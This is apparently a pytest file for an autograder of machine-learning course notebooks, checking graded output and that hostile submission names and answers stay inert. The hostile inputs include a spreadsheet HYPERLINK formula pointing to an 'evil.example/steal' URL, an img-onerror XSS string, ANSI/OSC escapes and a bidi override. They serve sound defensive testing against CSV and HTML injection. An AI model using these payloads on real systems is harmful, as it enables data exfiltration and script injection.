"""`grader grade` on the bundled example submissions, as the README's quick start runs it."""

from __future__ import annotations

import html
import json
import subprocess
import sys

import jsonschema
import pytest

from conftest import EXAMPLES, HIDDEN, REPO

SCHEMA = json.loads((REPO / "tests" / "gradescope_schema.json").read_text())


@pytest.mark.slow  # minutes of kernels: the slow run (.ci/run) covers it
def test_grade_examples_writes_results_json_per_submission(tmp_path, cache_dir):
    env_cmd = [sys.executable, "-m", "grader.runners.cli", "grade", *sorted(map(str, EXAMPLES.iterdir())),
               "--out", str(tmp_path), "--hidden-checks", str(HIDDEN), "--profile", "quick", "--jobs", "2"]
    import os

    env = {**os.environ, "ITMAL_CACHE_DIR": str(cache_dir), "COLUMNS": "300"}
    done = subprocess.run(env_cmd, capture_output=True, text=True, env=env, timeout=600)
    assert done.returncode == 0, done.stdout + done.stderr
    correct = json.loads((tmp_path / "group01-correct" / "results.json").read_text())
    mistakes = json.loads((tmp_path / "group02-typical-mistakes" / "results.json").read_text())
    for doc in (correct, mistakes):
        jsonschema.validate(doc, SCHEMA)
    assert all(t["status"] == "passed" for t in correct["tests"])
    assert correct["score"] == sum(t["max_score"] for t in correct["tests"])
    failed = {t["number"]: t for t in mistakes["tests"] if t["status"] == "failed"}
    # each exercise's typical mistake (solutions/journal2/nbsrc/*.py: MISTAKES, MISTAKE_ANSWERS)
    assert set(failed) == {
        "gradient_descent.qa", "gradient_descent.qe", "capacity.qa", "generalization_error.qb",
        "naive_bayes.qb", "regularizers.qa", "gridsearch.qb", "pca.qa", "neurons.qb",
        "perceptron.qc", "perceptron.qd", "mlp_moon.qa", "mlp_moon.qc", "mlp_mnist.qa", "mlp_mnist.qb"}
    assert "fitted on the test data" in failed["pca.qa"]["output"]
    assert "theta_gd" in failed["gradient_descent.qa"]["output"] and "expected" in failed["gradient_descent.qa"]["output"]
    # hidden checks show in results.json only as passed/failed, never their inputs
    assert "hidden check: wrong answer" in failed["regularizers.qa"]["output"]
    assert "7.5" not in failed["regularizers.qa"]["output"]
    assert f"group01-correct: {correct['score']:g} / {correct['score']:g} points, pass" in " ".join(done.stdout.split())
    assert "Journal verdict: resubmit" in mistakes["output"]
    assert (tmp_path / "group01-correct" / "answers.md").read_text().count("## ") >= 20
    assert (tmp_path / "gradebook.csv").read_text().count("\n") == 3


HYPERLINK = '=HYPERLINK("http://evil.example/steal?x=1","click here") Ridge adds the squared L2 norm.'
ANSI = "\x1b[31mred\x1b]8;;https:evil.example\x07link\x1b]8;;\x07\u202e"
HOSTILE = {  # name handed in -> what it holds
    "gradebook.csv.zip": "hyperlink answer",  # named like an output file; its qc answer starts a formula
    f"evil[bold]{ANSI}": "markup error",  # its Omega raises an error whose message is rich markup
    "Γράμμα": None, "作业": None,  # no Latin letters: sanitise to nothing
    "a b": None, "a_b": None,  # collide after sanitising
    "=1+2": None, "<img src=x onerror=alert(1)>": None,
}


def _hostile_batch(root):
    import zipfile

    import nbformat
    from conftest import SOLUTIONS, read, replace_cells

    paths = []
    root.mkdir(parents=True)
    for name, what in HOSTILE.items():
        path = root / name
        if what == "hyperlink answer":
            nb = replace_cells(read(SOLUTIONS / "regularizers.ipynb"), "regularizers.qc.answer", HYPERLINK)
            with zipfile.ZipFile(path, "w") as zf:
                zf.writestr("regularizers.ipynb", nbformat.writes(nb))
        else:
            path.mkdir(parents=True)
            if what == "markup error":
                nb = replace_cells(read(SOLUTIONS / "regularizers.ipynb"), "regularizers.qa",
                                   "raise ValueError('[/] [bold]boom[/bold] \\x1b[2J \\x1b]0;pwned\\x07')", which=0)
                nbformat.write(nb, path / "regularizers.ipynb")
        paths.append(path)
    return paths


def _cli(args, env):
    done = subprocess.run([sys.executable, "-m", "grader.runners.cli", "grade", *map(str, args)],
                          capture_output=True, text=True, env=env, timeout=600)
    return done.returncode, done.stdout + done.stderr


def _sheet(path):
    import csv

    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.mark.slow  # minutes of kernels: the slow run (.ci/run) covers it
def test_hostile_names_and_text_are_inert_in_every_output_and_names_survive_a_partial_rerun(tmp_path, cache_dir):
    """The CLI on submissions named like an output file, with no Latin letters, colliding after
    sanitising, holding markup, ANSI/OSC escapes and a bidi override, and a text answer that is
    a spreadsheet formula: nothing crashes, nothing is overwritten, every output names the
    original, nothing student-made is live in any output; a re-run of a subset keeps the names."""
    import csv
    import os

    paths = _hostile_batch(tmp_path / "in")
    out = tmp_path / "out"
    not_a_submission = tmp_path / "in" / "notes[bold][link=https:x]\x1b[31m.txt"
    not_a_submission.write_text("hello")
    env = {**os.environ, "ITMAL_CACHE_DIR": str(cache_dir), "COLUMNS": "300"}
    common = ["--out", out, "--profile", "quick", "--jobs", "2"]
    code, text = _cli([*paths, not_a_submission, *common], env)
    assert code == 0, text  # the CLI crashed on the note's [/] (rich MarkupError) after grading
    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
    assert "notes[bold][link=https:x]\\x1b[31m.txt: not a notebook, zip or folder; ignored" in " ".join(text.split())

    book = _sheet(out / "gradebook.csv")  # the batch's gradebook: not a submission's folder
    assert (out / "gradebook.csv").is_file() and len(book) == len(HOSTILE)
    names = {row["submission"] for row in book}
    assert len(names) == len(HOSTILE) and all((out / n / "results.json").is_file() for n in names)
    assert {p.name for p in out.iterdir() if p.is_dir()} == names
    handed_in = {row["handed_in"]: row["submission"] for row in book}
    assert handed_in["'=1+2"]  # neutralised: a spreadsheet shows it, never computes it
    from grader.outputs.inert import csv_uncell, visible

    assert {csv_uncell(h) for h in handed_in} == {visible(h) for h in HOSTILE}
    for sheet in ("gradebook.csv", "leaderboard.csv", "manual.csv", "similarity.csv"):
        for row in csv.reader(open(out / sheet, newline="", encoding="utf-8")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (sheet, cell)
                assert "\x1b" not in cell and "\u202e" not in cell
    manual = _sheet(out / "manual.csv")
    zipped = handed_in["gradebook.csv.zip"]
    hyper = next(r for r in manual if r["submission"] == zipped and r["question"] == "regularizers.qc")
    assert hyper["text"] == "'" + HYPERLINK

    for original in HOSTILE:
        folder = out / handed_in[visible(original) if original != "=1+2" else "'=1+2"]
        doc = json.loads((folder / "results.json").read_text())
        jsonschema.validate(doc, SCHEMA)
        assert doc["output"].splitlines()[0] == f"Submission: {visible(original)}"
        page = (folder / "feedback.html").read_text()
        assert "<img src=x" not in page and "\x1b" not in page and "\u202e" not in page
        assert html.escape(visible(original)) in page
    evil = out / handed_in[visible(f"evil[bold]{ANSI}")]
    assert "[/] [bold]boom[/bold] \\x1b[2J" in (evil / "feedback.html").read_text()
    summary = (out / "summary.html").read_text()
    assert "<img src=x" not in summary and "\x1b" not in summary and "&lt;img src=x onerror=alert(1)&gt;" in summary
    similar = (out / "similarity.html").read_text()
    assert "<img src=x" not in similar and "\x1b" not in similar and "\u202e" not in similar

    # the instructor grades the formula-like answer with a formula-like comment; read back exactly
    rows = _sheet(out / "manual.csv")
    for row in rows:
        if row is not None and row["submission"] == zipped and row["question"] == "regularizers.qc":
            row["points"], row["comment"] = "0", "'=see the course notes"  # as written by csv_cell
    graded = tmp_path / "graded.csv"
    with open(graded, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    code, text = _cli([*paths, *common, "--manual", graded], env)
    assert code == 0, text
    assert f"skipped {len(HOSTILE)} (unchanged)" in " ".join(text.split())
    assert float(next(r for r in _sheet(out / "gradebook.csv") if r["submission"] == zipped)["regularizers.qc"]) == 0
    assert "=see the course notes" in (out / zipped / "feedback.html").read_text()
    assert "&#x27;=see" not in (out / zipped / "feedback.html").read_text()

    # a re-run with a subset, in another order: every name kept, nothing re-graded, tables shown;
    # the gradebook still holds every submission graded into --out, not only the subset
    subset = [paths[3], paths[1], paths[5], paths[0]]
    code, text = _cli([*subset, *common], env)
    assert code == 0, text
    assert "skipped 4 (unchanged)" in " ".join(text.split())
    assert "\x1b" not in text and "\u202e" not in text
    assert "[/] [bold]boom[/bold] \\x1b[2J" in text  # the table's feedback: shown, not parsed
    assert {r["submission"]: r["handed_in"] for r in _sheet(out / "gradebook.csv")} == \
        {handed_in[k]: k for k in handed_in}
    assert {p.name for p in out.iterdir() if p.is_dir()} == names
